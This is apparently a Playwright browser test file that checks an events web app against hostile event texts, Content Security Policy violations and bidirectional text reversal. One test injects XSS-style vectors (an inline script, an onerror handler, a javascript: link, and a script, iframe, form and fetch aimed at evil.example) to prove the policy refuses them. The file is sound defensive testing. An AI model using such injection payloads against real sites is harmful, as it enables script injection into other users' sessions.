"""Events with hostile texts, in a real browser: no script runs, no policy is violated, no text is reversed."""

from __future__ import annotations

import time
from typing import Any

import pytest
from playwright.sync_api import Browser, Page

from events import bulk, services
from events.pages.today import today
from tests.browser.conftest import Open, sign_in
from tests.browser.full_desk import ADA, PAGES
from tests.support.builders import ACTOR, make_fields, make_staff
from tests.support.hostile_texts import TAKEN, TEXT_FIELDS
from tests.support.http_server import Server

# Runs before the scripts of a page; records what the browser refuses and scripts that should not run.
WATCH = """
window.refused = [];
document.addEventListener("securitypolicyviolation",
    (event) => window.refused.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
window.alert = (said) => { window.taken = said; };
"""


@pytest.fixture
def desk_of_texts(open_browser: Open) -> Page:
    make_staff("ada", "admin")
    make_staff("eva", "editor")
    day = today().isoformat()
    for number, text in enumerate(TAKEN.values()):
        said = dict.fromkeys(TEXT_FIELDS, text)
        services.create_event(make_fields(**{**said, "eventId": text if number else "launch"}, date=day), ACTOR)
    services.create_event(make_fields(eventId="deleted", title=TAKEN["script"]), ACTOR)
    services.delete_event("deleted", ACTOR)
    page = open_browser(viewport={"width": 1280, "height": 800})
    page.add_init_script(WATCH)
    sign_in(page, "ada")
    return page


def found(page: Page) -> list[Any]:
    return page.evaluate("[...window.refused, ...(window.taken ? ['taken'] : [])]")  # type: ignore[no-any-return]


def test_no_page_violates_its_policy_and_no_script_runs(desk_of_texts: Page) -> None:
    page = desk_of_texts
    batch = bulk.prepare_status(None, ["launch"], TAKEN["end of an attribute"], ADA)
    for path in [*PAGES, "/docs", f"/staff/batches/{batch.id}/"]:
        page.goto(path)
        page.mouse.move(600, 400)
        page.keyboard.press("Tab")
        assert found(page) == [], path


INJECT = """() => {
    const add = (name, more) => document.body.append(Object.assign(document.createElement(name), more));
    add("script", {textContent: "window.taken = 'inline'"});
    add("script", {src: "https://evil.example/x.js"});
    add("div", {innerHTML: `<img src="data:," onerror="window.taken = 'handler'"><p style="color: red">x</p>
        <a id="link" href="javascript:window.taken=1">x</a><iframe src="https://evil.example/"></iframe>
        <form action="https://evil.example/"><button id="send">x</button></form>`});
    document.querySelector("#link").click();
    document.querySelector("#send").click();
    fetch("https://evil.example/").catch(() => {});
}"""


def test_an_injected_script_is_refused(browser: Browser, server: Server) -> None:
    """For every way of injection. This proves that the test above would find a violation."""
    make_staff("ada", "admin")
    context = browser.new_context(base_url=server.url)  # a context whose console may report errors
    page = context.new_page()
    page.add_init_script(WATCH)
    sign_in(page, "ada")
    page.evaluate(INJECT)
    until = time.monotonic() + 30
    while page.evaluate("window.refused.length") < 8:  # not `wait_for_function`, whose own script the policy refuses
        assert time.monotonic() < until, found(page)
        page.wait_for_timeout(50)
    refused = {line.split()[0] for line in found(page)}
    assert {
        "script-src-elem",
        "script-src-attr",
        "style-src-attr",
        "frame-src",
        "form-action",
        "connect-src",
    } <= refused
    assert page.evaluate("window.taken") is None
    context.close()


# Titles with text before or after them on the wrong side.
TURNED = """() => [...document.querySelectorAll(".activity-line a")].filter((title) => {
    const parts = (node) => [...(node?.getClientRects() ?? [])];
    const level = (one) => (other) => Math.abs(one.top + one.height / 2 - other.top - other.height / 2) < 5;
    const lines = parts(title), before = parts(title.previousElementSibling).at(-1);
    const turnedBefore = lines.filter(level(before)).some((part) => part.left < before.right - 1);
    const after = parts(title.nextElementSibling)[0];
    return turnedBefore || (after && lines.filter(level(after)).some((part) => part.right > after.left + 1));
}).map((title) => title.textContent)"""


def test_no_text_reverses_the_text_around_it(desk_of_texts: Page) -> None:
    """In the activity, words before a title are at its left and words after it at its right, for every title."""
    page = desk_of_texts
    for text in TAKEN.values():
        event_id = text if text != next(iter(TAKEN.values())) else "launch"
        services.update_event(event_id, {"capacity": 7, "organizer": "x"}, ACTOR)
    page.goto("/staff/activity/")
    assert page.locator(".activity-line a").count() >= len(TAKEN)
    assert page.evaluate(TURNED) == []
